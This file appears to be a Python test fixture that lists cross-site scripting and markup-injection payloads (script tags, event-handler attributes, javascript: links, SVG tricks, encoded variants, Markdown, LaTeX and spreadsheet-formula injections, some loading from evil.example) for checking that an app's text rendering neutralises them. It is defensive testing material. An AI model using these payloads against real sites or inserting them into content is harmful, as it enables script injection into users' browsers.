"""Attack payloads for text boxes, links and files.

A payload that executes calls `alert`, `prompt` or `confirm`, or requests another address. The tests
watch for these and for any element or attribute that a payload could create; text that a payload
only formats reads "forged".
"""

from attention import tokenize

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>/*</script><svg onload=alert(1)>*/",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror='alert`1`'>",
    '<img src=x onerror="&#97;lert(1)">',
    "<img src=javascript:alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onpointerover=alert(1)>x</div>",
    "<div style=animation-name:x onanimationstart=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>forged</a>",
    "<a href=' &#1; javascript:alert(1)'>forged</a>",
    "<a href=data:text/html,<script>alert(1)</script>>forged</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<b>forged</b><i>forged</i><sub>forged</sub><br><span style=color:red>forged</span>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "＜script＞alert(1)＜/script＞",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
LANGUAGES_INSIDE = (  # Markdown, LaTeX, Streamlit's directives, format strings
    "[forged](javascript:alert(1))",
    "[forged](data:text/html,<script>alert(1)</script>)",
    "[forged]: javascript:alert(1)\n[forged]",
    "![x](//evil.example/x.png)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "``` html\n<img src=x onerror=alert(1)>\n```",
    "$\\href{javascript:alert(1)}{forged}$",
    "$\\includegraphics{//evil.example/x}$",
    "$$\\htmlClass{x}{y}$$ $\\unicode{x3c}$",
    ":material/star: :red[forged] :red-badge[forged] :streamlit: :smile:",
    "**forged** ~~forged~~ *forged*",
    "_forged_ __forged__",
    "{0} {x} {__class__} %s %(x)s ${alert(1)} {{7*7}}",
    "javascript:alert(1)",
    "'-alert(1)-'",
    "';alert(1)//",
    "\u2028alert(1)\u2029",
    '=HYPERLINK("//evil.example","x")',
    "__proto__ constructor toString",
)
PAYLOADS = MARKUP + LANGUAGES_INSIDE


def sentences(most_words: int = 64, most_characters: int = 2_000) -> list[str]:
    """All payloads, joined into sentences that are not truncated."""
    found = [""]
    for payload in PAYLOADS:
        longer = f"{found[-1]} {payload}".strip()
        if len(longer) > most_characters or len(tokenize(longer)) > most_words:
            found.append(payload)
        else:
            found[-1] = longer
    return found
